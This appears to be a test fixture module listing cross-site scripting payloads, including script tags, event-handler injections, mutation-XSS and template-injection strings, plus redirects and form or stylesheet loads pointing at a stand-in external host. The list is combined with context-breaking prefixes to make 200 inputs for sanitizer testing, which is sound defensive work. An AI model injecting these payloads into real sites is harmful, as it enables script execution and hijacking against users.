/** What somebody writes who hopes that a page will run it: it sets `globalThis.pwned`, or asks another site. */

const CANARY = "globalThis.pwned=1";
export const HOSTILE = [
  `<script>${CANARY}</script>`,
  `"><script>${CANARY}</script>`,
  `</script><script>${CANARY}</script>`,
  `</title><script>${CANARY}</script>`,
  `<img src=x onerror=${CANARY}>`,
  `"><img src=x onerror="${CANARY}">`,
  `'><svg/onload=${CANARY}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<a href="javascript:${CANARY}" autofocus onfocus=${CANARY}>pwned</a>`,
  `<style>@import 'http://elsewhere.example/x.css';</style>`,
  `<link rel=stylesheet href=http://elsewhere.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=http://elsewhere.example/">`,
  `<base href=http://elsewhere.example/>`,
  `<form action=http://elsewhere.example/><input type=submit autofocus>`,
  `<!--><script>${CANARY}</script>-->`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CANARY}&gt;">`,
  `&lt;script&gt;${CANARY}&lt;/script&gt;`,
  `\u003cscript\u003e${CANARY}\u003c/script\u003e`,
  `{"@context":"</script><script>${CANARY}</script>"}`,
  `\u2028${CANARY}\u2029//`,
  `<template><script>${CANARY}</script></template>`,
  `<details open ontoggle=${CANARY}>`,
  `<object data="data:text/html,<script>${CANARY}</script>"></object>`,
  `\`;${CANARY};//`,
  `\${${CANARY}}{{${CANARY}}}<%=${CANARY}%>`,
];

/** Ends of what an attacker may find themselves in. */
const ENDINGS = ["", "'", '"', "'>", "-->", "</textarea>", "</option></select>", "</title></style>"];

/** Two hundred of them: each after whatever it may have to end first. */
export const TWO_HUNDRED = ENDINGS.flatMap((ending) => HOSTILE.map((text) => `${ending}${text}`));
